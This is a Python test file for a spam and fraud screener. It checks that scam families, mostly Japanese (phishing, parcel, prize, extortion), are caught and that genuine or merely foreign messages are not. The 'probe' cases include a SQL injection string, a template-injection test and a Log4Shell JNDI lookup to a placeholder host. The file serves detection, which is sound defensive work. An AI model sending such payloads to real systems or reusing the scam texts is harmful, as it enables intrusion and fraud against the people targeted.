"""Machine and fraud text: each family whole, and everything that only looks like it."""

import pytest

from madoguchi.rooms.screening import reading, spam
from tests.rooms.screening import items


def codes(text: str) -> list[str]:
    return [sign.code for sign in spam.signs(reading.read(text).plain)]


@pytest.mark.parametrize(
    ("code", "text"),
    [
        ("markup", '<a href="https://a.example">cheap</a> <a href="https://b.example">bags</a>'),
        ("markup", "[url=https://a.example]best price[/url] [url=https://b.example]order[/url]"),
        ("probe", "1' UNION SELECT null,version()-- -"),
        ("probe", "{{7*7}} ${jndi:ldap://a.example/x}"),
        ("scam", "5000 dofollow backlinks only $9 https://a.example https://b.example"),
        ("scam", "Best casino bonus! free spins https://a.example/win"),
        ("links", "https://a.example/1 https://a.example/2 https://a.example/3"),
        ("foreign", "Лучшее онлайн казино, бонус за регистрацию https://a.example"),
        ("foreign", "代开各类发票,点数优惠,加微信"),
        ("foreign", "안전놀이터 추천 먹튀 없는 토토 카지노"),
        ("mashing", "asdkjh qwpoeiru zmxncb lkjhgfd"),
        ("mashing", "ああああああああsdfghjふぁああ"),
        ("mashing", "hTqWzLrPbXvNcKd"),
        ("inheritance", "余命わずかの未亡人です。遺産5億円をあなた様に受け取ってほしいのです。至急口座番号をお送りください。"),
        ("phishing", "お客様のカードが停止されました。24時間以内に本人確認のため暗証番号をご入力ください。https://a.example"),
        ("parcel", "お荷物を不在のため持ち帰りました。下記よりご確認ください。https://a.example/x"),
        ("prize", "厳正な抽選の結果、現金1億円が当選しました。手数料3,000円を至急お支払いください。"),
        ("side-job", "スマホだけで日給5万円!誰でも簡単。友だち追加はこちら https://a.example"),
        ("investment", "元本保証で月利30%。秘密の投資グループへ招待します。https://a.example"),
        ("extortion", "端末をハッキングし動画を録画しました。ビットコインを送らなければ連絡先に公開します。"),
        ("replica", "スーパーコピー時計 N級品 財布 激安通販"),
        ("loan", "ブラックOK!審査なしで50万円振込。無職でも可。"),
        ("bill", "料金の未納が確認されました。本日中に電子マネーでお支払いください。"),
        ("chief", "新しいチャットグループを作成し、QRコードを送ってください。"),
    ],
)  # fmt: skip
def test_each_family_is_known(code: str, text: str) -> None:
    assert code in codes(text)


@pytest.mark.parametrize(
    "text",
    [
        "こんな当選メールが届きました。現金1億円、手数料を振り込めとあります。御社からですか?https://a.example",
        "不在のため荷物を持ち帰ったというSMSが来ました。本物でしょうか。https://a.example/x",
        "カードの停止を知らせる偽サイトがあります。暗証番号の入力を求められます。https://a.example 24時間以内",
        "スマホの在宅の仕事を探しています。日給はいくらですか。",
        "祖父の遺産を相続しました。時計を受け取りたいのですが、手数料はかかりますか。",
        "ビットコインで支払えますか",
        "カジノのある船の旅はありますか。https://a.example",
        "Forum bug: [url=https://a.example]my build[/url] shows as plain text, expected a link.",
        "Do you have a casino night in the hotel? We are 12 people.",
        "Здравствуйте! У вас есть комната на двоих 3 мая? Спасибо",
        "你好,请问五月三日有房间吗?我们两个人。谢谢",
        "안녕하세요. 예약을 변경하고 싶습니다. 감사합니다.",
        "Please see our spec https://a.example/spec and drawing https://a.example/drawing and quote 300 pieces.",
        "test", "テスト", "あ", "?", "🍣🍣🍣", "ありがとうございました", "でんわください", "ok", "Thanks", "hjk",
        "しめきりはいつですか", "ううううう腹立つ", "はははははは", "WWW", "O'Brien; please reply",
    ],
)  # fmt: skip
def test_who_reports_asks_or_is_only_foreign_short_or_odd_stays(text: str) -> None:
    assert codes(text) == []


def test_no_genuine_message_and_no_pitch_is_taken_for_spam() -> None:
    texts = items.bodies("genuine") + items.bodies("pitch") + [item["body"] for item in items.stress()]
    assert [text for text in texts if codes(text)] == []


def test_nearly_all_authored_spam_is_known() -> None:
    found = [bool(codes(text)) for text in items.bodies("spam")]
    assert sum(found) / len(found) >= 0.95


@pytest.mark.parametrize(
    "change", [str.upper, lambda text: text.replace(" ", "　"), lambda text: "　" + text + "\n"]
)
def test_width_and_space_change_nothing(change: object) -> None:
    assert callable(change)
    texts = [text for text in items.bodies("spam") if codes(text)]
    kept = [text for text in texts if codes(change(text))]
    assert len(kept) >= 0.97 * len(texts)
